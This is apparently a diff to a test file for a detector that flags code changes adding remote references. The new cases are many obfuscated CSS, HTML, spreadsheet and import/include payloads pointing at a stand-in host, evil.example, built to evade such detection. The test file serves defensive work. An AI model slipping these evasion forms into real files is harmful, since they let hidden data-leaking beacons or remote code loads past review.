@@ -41,11 +41,15 @@ describe("what a change adds", () => {
 
   for (const [path, after] of [
     ["src/app.ts", `fetch("${address}")`],
-    ["README.md", "![a](docs/a.png) and // a comment, a/b, C: x"],
+    ["README.md", "![a](docs/a.png) and // a comment, a/b, C: x, `//` and (a//)"],
     ["src/app.css", "a { color: red } /* a // b */"],
     ["a.json", '{ "$schema": "./schema.json", "$id": "x" }'],
     ["package.json", '{ "name": "x", "homepage": "https://a.example" }'],
     ["src/hooks.ts", "const $state = 'a:b';"],
+    ["src/app.ts", 'import { a } from "./a.ts"; // see https://a.example\nget("https://a.example/x", "\\\\n");'],
+    ["src/app.ts", 'const a = "//"; const b = import("./x"), c = "\\\\x1b[0m";'],
+    ["src/app.ts", 'log(\n  "\\nDone: https://a.example",\n  "a//b");'],
+    ["src/app.c", '#include "..\\\\a.h"\n#include <stdio.h>\nputs("//");'],
   ] as const) {
     it(`A4: ${path} with ${JSON.stringify(after)} is no such change`, () =>
       assert.deepEqual(reasons(path, "", after), []));
@@ -70,8 +74,45 @@ describe("what a change adds", () => {
     ["a.rst", ".. figure::\n   https://evil.example/?q=1"],
     ["a.adoc", ":imagesdir: https://evil.example/?q=1\n\nimage::a.png[]"],
     ["a.csv", '=IMAGE("https://evil.example/?q=1")'],
+    ["a.css", "a { background: url(//@evil.example/?q=1) }"],
+    ["a.css", "a { background: url(//!a:~@evil.example/?q=1) }"],
+    ["a.css", "a { background: url(//!.evil.example/?q=1) }"],
+    ["a.css", "a { background: url(//Ⓔvil.example/?q=1) }"],
+    ["a.css", "a { background: url(//\u00adevil.example/?q=1) }"],
+    ["a.css", String.raw`a { background: url("ht\tps:evil.example/?q=1") }`],
+    ["a.css", 'a { background: url("ht\\\ntps:evil.example/?q=1") }'],
+    ["README.md", "![a](//~@evil.example/?q=1)"],
+    ["a.html", "<img src=/\\@evil.example/?q=1>"],
+    ["a.html", "<img src='\u0001//@evil.example/?q=1'>"],
+    ["a.html", "<body background=&#x0000000002f;&#000000000047;evil.example/?q=1>"],
   ] as const) {
     it(`A4 (finding H9): ${path} gains an address in any form: ${JSON.stringify(after)}`, () => {
+      assert.deepEqual(reasons(path, "", after), ["remote-reference"]);
+      assert.deepEqual(reasons(path, after, `${after}\n`), []);
+    });
+  }
+
+  for (const [path, after] of [
+    ["a.ts", 'import a from "https://evil.example/?q=1";'],
+    ["a.ts", 'import/* x */"https://evil.example/?q=1";'],
+    ["a.ts", `import/**/(/* ${"x".repeat(300)} */ "https://evil.example/?q=1");`],
+    ["a.ts", "export * from\n // x\n  'https://evil.example/?q=1';"],
+    ["a.ts", "import /* x\n y */ 'https://evil.example/?q=1';"],
+    ["a.js", "const a = await import(`//evil.example/a`);"],
+    ["a.js", 'require ( "\\\\\\\\evil.example\\\\a" );'],
+    ["a.ts", String.raw`import "\x68ttps://evil.example/?q=1";`],
+    ["a.ts", String.raw`import "\u{00068}t\ttps:\//evil.example/?q=1";`],
+    ["a.ts", "import\n'\\https:evil.example/?q=1';"],
+    ["a.ts", "import //x\u2028'https://evil.example/?q=1';"],
+    ["a.ts", 'import "ht\\\ntps://evil.example/?q=1";'],
+    ["a.ts", '/// <reference path="//evil.example/share/a.d.ts" />'],
+    ["a.ts", '// @deno-types="https://evil.example/?q=1"'],
+    ["a.tsx", "/** @jsxImportSource https://evil.example/?q=1 */"],
+    ["a.c", "#include <//evil.example/share/a.h>"],
+    ["a.cpp", '#include "\\\\evil.example\\share\\a.h"'],
+    ["a.rs", 'include_str!("//evil.example/share/a");'],
+  ] as const) {
+    it(`A4: ${path} imports an address, which a language server fetches: ${JSON.stringify(after)}`, () => {
       assert.deepEqual(reasons(path, "", after), ["remote-reference"]);
       assert.deepEqual(reasons(path, after, `${after}\n`), []);
     });
